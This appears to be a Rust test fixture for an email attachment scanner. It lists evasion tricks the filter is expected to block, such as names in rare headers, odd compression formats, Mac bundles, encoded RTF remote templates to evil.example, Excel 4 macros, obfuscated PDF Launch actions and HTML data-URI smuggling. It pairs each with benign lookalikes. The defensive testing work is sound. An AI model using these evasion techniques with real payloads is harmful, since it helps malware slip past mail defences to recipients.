//! What passed as clean when a stranger tried: names in fields that few programs read, formats that are known by little, pieces, folders that are
//! programs, letters as numbers, sheets in another place, streams packed twice, files as addresses. Each class has its honest twin.

use super::carriers::{program, zipped};
use super::expected::{Bad, End, Mail, bad};
use super::locked_pdf;
use crate::mail::{attached, base64};

const ANY: &[End] = &[End::Forbidden, End::NotOpened];
const HEAD: &str = "From: Accounts <accounts@a.example>\r\nTo: bob@b.example\r\nSubject: Payment advice\r\nDate: Wed, 18 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n";
const SCRIPT: &[u8] = b"var s = new ActiveXObject('WScript.Shell');\r\ns.Run('cmd /c calc.exe');\r\n";

pub(crate) fn all() -> Vec<Bad> {
    [fields(), texts(), packed(), pieces(), bundles(), documents(), addresses(), disks(), types()]
        .into_iter()
        .flatten()
        .collect()
}

fn twin(name: &str, message: Vec<u8>) -> Mail {
    Mail { class: "honest twin of what was overlooked", name: name.to_owned(), message }
}

fn lines(data: &[u8]) -> String {
    String::from_utf8(base64(data)).unwrap()
}

/// A message of a text and one part, which has these fields.
fn part(fields: &str, data: &[u8]) -> Vec<u8> {
    format!(
        "{HEAD}Content-Type: multipart/mixed; boundary=BB\r\n\r\n--BB\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n\
         --BB\r\n{fields}Content-Transfer-Encoding: base64\r\n\r\n{}\r\n--BB--\r\n",
        lines(data)
    )
    .into_bytes()
}

fn fields() -> Vec<Bad> {
    const OCTETS: &str = "Content-Type: application/octet-stream\r\n";
    [
        ("Content-Name", "Content-Disposition: attachment\r\nContent-Name: run.js\r\n"),
        ("Content-Name, shown", "Content-Name: run.js\r\n"),
        ("Content-Name in quotes", "Content-Name: \"run.js\"\r\n"),
        ("Content-Name in encoded words", "Content-Name: =?utf-8?B?cnVuLmpz?=\r\n"),
        ("a name of Sun", "X-Sun-Data-Name: run.js\r\n"),
        ("a description alone", "Content-Description: run.js\r\n"),
    ]
    .into_iter()
    .map(|(name, more)| {
        bad("name in another field", name, part(&format!("{OCTETS}{more}"), SCRIPT), &[End::Forbidden], "extension .js")
    })
    .collect()
}

const UUENCODED: &str = "begin 644 run.js\r\n#=F%R\r\n`\r\nend\r\n";

fn texts() -> Vec<Bad> {
    let text = |kind: &str, body: &str| format!("{HEAD}Content-Type: {kind}\r\n\r\n{body}").into_bytes();
    let sun = "----------\r\nX-Sun-Data-Type: text\r\nX-Sun-Content-Lines: 1\r\n\r\nhello\r\n----------\r\nX-Sun-Data-Type: default\r\n\
               X-Sun-Data-Name: run.js\r\nX-Sun-Encoding-Info: ";
    let one_word = text("TEXT", &format!("hello\r\n\r\n{UUENCODED}"));
    let says = "Sun's old mail program";
    vec![
        bad("old types", "text", one_word, &[End::Forbidden], "extension .js"),
        bad(
            "old types",
            "Sun and uuencode",
            text("X-sun-attachment", &format!("{sun}uuencode\r\n\r\n{UUENCODED}")),
            &[End::Forbidden],
            "extension .js",
        ),
        bad(
            "old types",
            "Sun and base64",
            text("X-sun-attachment", &format!("{sun}base64\r\n\r\n{}", lines(SCRIPT))),
            &[End::NotOpened],
            says,
        ),
    ]
}

/// The start of a program, a script and a text, as `xz --format=lzma` packs them.
const PACKED_PROGRAM: &[u8] = b"\x5d\x00\x00\x80\x00\xff\xff\xff\xff\xff\xff\xff\xff\x00\x26\x96\x8e\x70\x00\x17\xf7\xec\x05\xbb\xea\xf4\xff\x85\x4a\xe7\xd9\xb5\x67\xa1\x39\x53\x15\x6a\x10\xb7\xff\xd1\x05\x00\x00";
const PACKED_SCRIPT: &[u8] = b"\x5d\x00\x00\x80\x00\xff\xff\xff\xff\xff\xff\xff\xff\x00\x2b\x94\xc8\xcb\x47\x89\xf2\xec\x03\x31\xe9\x5f\xca\xa3\xef\xa3\x58\x25\xda\x9e\xa4\x43\x07\xff\xfe\xfe\xa8\x00";
const PACKED_TEXT: &[u8] = b"\x5d\x00\x00\x80\x00\xff\xff\xff\xff\xff\xff\xff\xff\x00\x34\x19\x49\xee\x8d\xdd\x5d\xf1\xf0\xb2\x39\x90\xb3\xff\xff\xef\x14\x80\x00";

/// The same as lzip packs them, and the program as xz does.
const LZIP_PROGRAM: &[u8] = b"LZIP\x01\x10\x00\x26\x96\x8e\x70\x00\x17\xf7\xec\x05\xbb\xea\xf4\xff\x85\x54\x33\x24\x73\xff\xff\x70\x38\x00\x00\x85\xe4\xef\xb2\x40\x00\x00\x00\x00\x00\x00\x00\x33\x00\x00\x00\x00\x00\x00\x00";
const LZIP_SCRIPT: &[u8] = b"LZIP\x01\x10\x00\x2b\x94\xc8\xcb\x47\x89\xf2\xec\x03\x25\x1f\x00\xb8\xed\x4e\x92\xad\xeb\x1a\x79\x77\x7f\xff\xfe\x90\x40\x00\xeb\x59\xa1\xf8\x11\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00\x00\x00\x00\x00";
const LZIP_TEXT: &[u8] = b"LZIP\x01\x10\x00\x34\x19\x49\xee\x8d\xdd\x3d\x3a\xdf\xff\xff\xdd\x12\x00\x00\x20\x30\x3a\x36\x06\x00\x00\x00\x00\x00\x00\x00\x2a\x00\x00\x00\x00\x00\x00\x00";
const XZ_PROGRAM: &[u8] = b"\xfd7zXZ\x00\x00\x01\x69\x22\xde\x36\x02\x00\x21\x01\x16\x00\x00\x00\x74\x2f\xe5\xa3\xe0\x00\x3f\x00\x12\x5d\x00\x26\x96\x8e\x70\x00\x17\xf7\xec\x05\xbb\xea\xf4\xff\x85\x53\x13\x50\x00\x00\x00\x00\x85\xe4\xef\xb2\x00\x01\x2a\x40\x93\x38\x31\x39\x90\x42\x99\x0d\x01\x00\x00\x00\x00\x01\x59\x5a";

/// The first member of an archive of cpio as it was first written.
fn cpio(name: &str, data: &[u8]) -> Vec<u8> {
    let numbers = [0o070_707, 0, 1, 0o100_644, 0, 0, 1, 0, 0, 0, name.len() as u16 + 1, 0, data.len() as u16];
    let header: Vec<u8> = numbers.iter().flat_map(|number| number.to_le_bytes()).collect();
    [header.as_slice(), name.as_bytes(), b"\0", data].concat()
}

fn packed() -> Vec<Bad> {
    let stored = [
        b"\x28\xb5\x2f\xfd\x20".as_slice(),
        &[SCRIPT.len() as u8],
        &(SCRIPT.len() as u32 * 8 + 1).to_le_bytes()[..3],
        SCRIPT,
    ]
    .concat();
    let skipped = [b"\x5a\x2a\x4d\x18\x04\0\0\0abcd".as_slice(), &stored].concat();
    let compress = b"\x1f\x9d\x90\x4d\xb4\x40\x02\x0c\x18".to_vec();
    let forbidden = &[End::Forbidden][..];
    vec![
        bad("packed", "LZMA by its content", attached("a.dat", PACKED_PROGRAM), forbidden, "a Windows program"),
        bad("packed", "LZMA by its name", attached("run.js.lzma", PACKED_SCRIPT), forbidden, "extension .js"),
        bad("packed", "lzip by its content", attached("a.dat", LZIP_PROGRAM), forbidden, "a Windows program"),
        bad("packed", "lzip by its name", attached("run.js.lz", LZIP_SCRIPT), forbidden, "extension .js"),
        bad("packed", "xz by its content", attached("a.dat", XZ_PROGRAM), forbidden, "a Windows program"),
        bad(
            "packed",
            "the name of LZMA",
            attached("a.tlz", b"nothing that is known"),
            &[End::NotOpened],
            "the name of an archive",
        ),
        bad(
            "packed",
            "compress",
            attached("a.dat", &compress),
            &[End::NotOpened],
            "a file of compress (.Z) is not opened",
        ),
        bad(
            "packed",
            "compress in a zip archive",
            attached("a.zip", &zipped("a.dat", &compress)),
            &[End::NotOpened],
            "compress",
        ),
        bad("packed", "Zstandard behind nothing", attached("run.js.zst", &skipped), forbidden, "extension .js"),
        bad(
            "packed",
            "old cpio",
            attached("a.dat", &cpio("run.js", SCRIPT)),
            &[End::NotOpened],
            "a cpio archive is not opened",
        ),
        bad(
            "packed",
            "Apple's archive",
            attached("a.dat", b"AA01\x20\0TYP1FPATP\x06\0run.js"),
            &[End::NotOpened],
            "an Apple archive",
        ),
    ]
}

fn pieces() -> Vec<Bad> {
    let whole = [b"7z\xbc\xaf\x27\x1c\0\x04".as_slice(), &[0xc3; 200]].concat();
    let says = "a piece of a file";
    vec![
        bad("numbered piece", "the first", attached("docs.001", &whole[..3]), &[End::NotOpened], says),
        bad("numbered piece", "the second", attached("docs.002", &whole[3..]), &[End::NotOpened], says),
        bad("numbered piece", "of a program", attached("setup.pdf.002", &program()[1..]), &[End::NotOpened], says),
    ]
}

fn bundles() -> Vec<Bad> {
    let inside = ["app", "workflow", "saver", "prefPane", "action", "service", "mpkg", "scptd", "pkg"];
    let mut out: Vec<Bad> = inside
        .iter()
        .map(|own| {
            let name = format!("Invoice.{own}/Contents/MacOS/run");
            bad(
                "bundle",
                own,
                attached("a.zip", &zipped(&name, b"#!/bin/sh\nopen -a Calculator\n")),
                &[End::Forbidden],
                "a folder that is a program",
            )
        })
        .collect();
    let widget = zipped("Clock.wdgt/Info.plist", b"<plist/>");
    out.push(bad("bundle", "widget", attached("a.zip", &widget), &[End::Forbidden], "a folder that is a program"));
    out.push(bad("bundle", "tool", attached("Install.tool", b"#!/bin/sh\n"), &[End::Forbidden], "extension .tool"));
    out
}

fn pdf(objects: &str) -> Vec<u8> {
    format!("%PDF-1.7\n1 0 obj\n<</Type/Catalog/OpenAction 5 0 R>>\nendobj\n{objects}\ntrailer <</Root 1 0 R>>\n")
        .into_bytes()
}

fn documents() -> Vec<Bad> {
    let rtf = |template: &str| attached("a.rtf", format!("{{\\rtf1{{\\*\\template {template}}}hi}}").as_bytes());
    let address = "https://evil.example/a.dotm";
    let letters: String = address.chars().map(|c| format!("\\u{}?", u32::from(c))).collect();
    let negative: String = address.chars().map(|c| format!("\\u-{}?", 0x1_0000 - u32::from(c))).collect();
    let hex: String = address.chars().map(|c| format!("\\'{:02x}", u32::from(c))).collect();
    let says = "fetches its template";
    let mut out: Vec<Bad> = [("Unicode", letters), ("negative", negative), ("hexadecimal", hex)]
        .into_iter()
        .map(|(name, template)| bad("RTF in numbers", name, rtf(&template), &[End::Forbidden], says))
        .collect();
    let types = "<Types><Override PartName=\"/xl/theme/a.xml\" ContentType=\"application/vnd.ms-excel.macrosheet+xml\"/></Types>";
    let book = attached("a.xlsm", &zipped("[Content_Types].xml", types.as_bytes()));
    out.push(bad("Excel 4", "a sheet elsewhere", book, &[End::Forbidden], "macros of Excel 4"));
    let sheet = zipped("xl/foo/s.xml", b"<xm:macrosheet xmlns:xm='x'><f>EXEC(\"calc\")</f></xm:macrosheet>");
    out.push(bad("Excel 4", "a sheet of no type", attached("a.xlsm", &sheet), &[End::Forbidden], "macros of Excel 4"));
    let launch = "5 0 <</S/Launch/F(cmd.exe)>>";
    let digits: String = launch.bytes().map(|byte| format!("{byte:02x}")).collect();
    let twice: String = digits.bytes().map(|byte| format!("{byte:02x}")).collect();
    let object = |filter: &str, body: &str| {
        let stream =
            format!("4 0 obj\n<</Type/ObjStm/N 1/First 4/Filter {filter}>>\nstream\n{body}>\nendstream\nendobj");
        attached("a.pdf", &pdf(&stream))
    };
    let twice = object("[/ASCIIHexDecode/ASCIIHexDecode]", &twice);
    out.push(bad("PDF", "the same filter twice", twice, &[End::Forbidden], "starts a program"));
    for (name, digits) in [("RC4", locked_pdf::RC4), ("AES", locked_pdf::AES), ("AES with one key", locked_pdf::AES256)]
    {
        let message = attached("a.pdf", &locked_pdf::octets(digits));
        out.push(bad("PDF", &format!("an empty password: {name}"), message, &[End::Forbidden], "starts a program"));
    }
    let says = "packed in an unusual way";
    out.push(bad("PDF", "a filter told elsewhere", object("7 0 R", &digits), &[End::NotOpened], says));
    out.push(bad("PDF", "a filter of nobody", object("/OtherDecode", &digits), &[End::NotOpened], says));
    out
}

fn addresses() -> Vec<Bad> {
    let page = |body: &str| attached("fax.html", format!("<html><body>{body}</body></html>").as_bytes());
    let one: String = lines(SCRIPT).split_whitespace().collect();
    let blob = format!(
        "<script>var b=new Blob([Uint8Array.from(atob('{one}'),c=>c.charCodeAt(0))]);var a=document.createElement('a');\
         a.href=URL.createObjectURL(b);a.download='x.zip';a.click()</script>"
    );
    let inner: String = lines(blob.as_bytes()).split_whitespace().collect();
    let picture: String =
        lines(b"<svg xmlns='http://www.w3.org/2000/svg'><script>location='https://evil.example/'</script></svg>")
            .split_whitespace()
            .collect();
    let cases = [
        ("a link", format!("<a href=\"data:application/octet-stream;base64,{one}\" download=\"a.js\">Open</a>")),
        (
            "escapes",
            "<a href=\"data:text/plain,[InternetShortcut]%0d%0aURL=file://evil.example/a\" download=\"a.url\">Open</a>"
                .into(),
        ),
        (
            "a script",
            format!(
                "<script>var a=document.createElement('a');a.href='data:text/plain;base64,{one}';a.download='a.vbs'</script>"
            ),
        ),
        ("a frame", format!("<iframe src=\"data:text/html;base64,{inner}\"></iframe>")),
        ("an embedded page", format!("<embed src=\"data:text/html;base64,{inner}\">")),
        ("a page that goes on", format!("<meta http-equiv=refresh content=\"0; url=data:text/html;base64,{inner}\">")),
        ("a picture as an object", format!("<object data=\"data:image/svg+xml;base64,{picture}\"></object>")),
    ];
    cases.into_iter().map(|(name, body)| bad("address with a file", name, page(&body), &[End::Forbidden], "")).collect()
}

fn at(length: usize, marks: &[(usize, &[u8])]) -> Vec<u8> {
    let mut out = vec![0; length];
    for (place, mark) in marks {
        out[*place..place + mark.len()].copy_from_slice(mark);
    }
    out
}

fn disks() -> Vec<Bad> {
    let images = [
        ("FAT", at(4096, &[(0, b"\xeb\x3c\x90MSDOS5.0\0\x02\x01"), (510, b"\x55\xaa")])),
        ("HFS+", at(4096, &[(1024, b"H+\0\x04")])),
        ("HFS", at(4096, &[(1024, b"BD")])),
        ("APFS", at(4096, &[(32, b"NXSB")])),
        ("HFS beside a disc", at(0x9000, &[(1024, b"H+\0\x04"), (0x8001, b"CD001\x01")])),
        ("SquashFS", at(512, &[(0, b"hsqs")])),
        ("QCOW", at(512, &[(0, b"QFI\xfb\0\0\0\x02")])),
        ("VHD", at(4096, &[(3584, b"conectix\0\0\0\x02")])),
        ("VMDK", at(4096, &[(0, b"KDMV\x01")])),
        ("sparse", at(4096, &[(0, b"sprs\0\0\0\x03")])),
    ];
    let says = "a disk image is not opened";
    images.iter().map(|(name, data)| bad("disk", name, attached("photos.dat", data), &[End::NotOpened], says)).collect()
}

fn types() -> Vec<Bad> {
    [
        ("application/appinstaller", ".appinstaller"),
        ("text/jscript", ".js"),
        ("application/x-rdp", ".rdp"),
        ("application/x-wsf", ".wsf"),
        ("application/x-chm", ".chm"),
        ("application/x-jar", ".jar"),
        ("application/x-xpinstall", ".xpi"),
        ("text/vbs", ".vbs"),
    ]
    .into_iter()
    .map(|(kind, says)| {
        let message = part(&format!("Content-Type: {kind}\r\nContent-Disposition: attachment\r\n"), b"x=1\r\n");
        bad("no name", kind, message, ANY, says)
    })
    .collect()
}

/// A bounce whose returned message was cut in the middle of a file.
fn cut_bounce() -> Vec<u8> {
    let body = lines(&[b"%PDF-1.4\n".as_slice(), &b"1 0 obj <<>> endobj\n".repeat(40)].concat());
    format!(
        "{HEAD}Content-Type: multipart/report; report-type=delivery-status; boundary=dsn\r\n\r\n--dsn\r\nContent-Type: text/plain\r\n\r\nIt did not arrive.\r\n\
         --dsn\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.b.example\r\n\r\nFinal-Recipient: rfc822; bob@b.example\r\nAction: failed\r\n\
         Status: 5.1.1\r\n\r\n--dsn\r\nContent-Type: message/rfc822\r\n\r\n{HEAD}Content-Type: multipart/mixed; boundary=orig\r\n\r\n--orig\r\n\
         Content-Type: text/plain\r\n\r\nhello\r\n--orig\r\nContent-Type: application/pdf; name=a.pdf\r\nContent-Disposition: attachment; filename=a.pdf\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{}\r\n--dsn--\r\n",
        &body[..body.len() / 2 / 78 * 78 + 13]
    )
    .into_bytes()
}

/// Mail that looks the same and hides nothing.
pub(crate) fn twins() -> Vec<Mail> {
    let rtf = b"{\\rtf1\\ansi\\uc1{\\*\\template C:\\\\Users\\\\M\\u252\\'fcller\\\\Normal.dotm}Gr\\'fc\\'dfe}";
    let book = "<Types><Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/></Types>";
    let page = "<html><head><link rel=stylesheet href=\"data:text/css,body%7B%7D\"></head><body><img src=\"data:image/png;base64,iVBORw0KGgo=\">\
                <a href=\"data:text/csv,a%2Cb\" download=\"table.csv\">Save</a></body></html>";
    vec![
        twin(
            "a description",
            part(
                "Content-Type: image/png; name=a.png\r\nContent-Description: run.js explained\r\n",
                b"\x89PNG\r\n\x1a\n",
            ),
        ),
        twin("a described text", part("Content-Type: text/plain\r\nContent-Description: main.py\r\n", b"see line 5\n")),
        twin("Content-Name", part("Content-Type: application/octet-stream\r\nContent-Name: notes.txt\r\n", b"hello\n")),
        twin("a type of one word", format!("{HEAD}Content-Type: text\r\n\r\nhello\r\n").into_bytes()),
        twin("LZMA", attached("notes.txt.lzma", PACKED_TEXT)),
        twin("lzip", attached("notes.txt.lz", LZIP_TEXT)),
        twin("a list of articles", attached("list.txt", b"AA01;screw\r\nAA02;nut\r\n")),
        twin("a numbered log", attached("messages.001", b"Nov 18 10:00:00 host app: started\n")),
        twin("a fax", attached("fax.001", b"II*\0\x08\0\0\0\0\0")),
        twin("a version", attached("manual 1.002.pdf", b"%PDF-1.4\n")),
        twin("sources", attached("a.zip", &zipped("com.example.app/src/notes.txt", b"hello"))),
        twin("a unit of systemd", attached("nginx.service", b"[Unit]\nDescription=nginx\n")),
        twin("RTF with letters as numbers", attached("a.rtf", rtf)),
        twin("types of a workbook", attached("a.xlsx", &zipped("[Content_Types].xml", book.as_bytes()))),
        twin("a page with pictures", attached("a.html", page.as_bytes())),
        twin("a PDF with an empty password", attached("a.pdf", &locked_pdf::octets(locked_pdf::HARMLESS))),
        twin("zeros", attached("a.dat", &[0; 4096])),
        twin("a bounce that was cut", cut_bounce()),
    ]
}
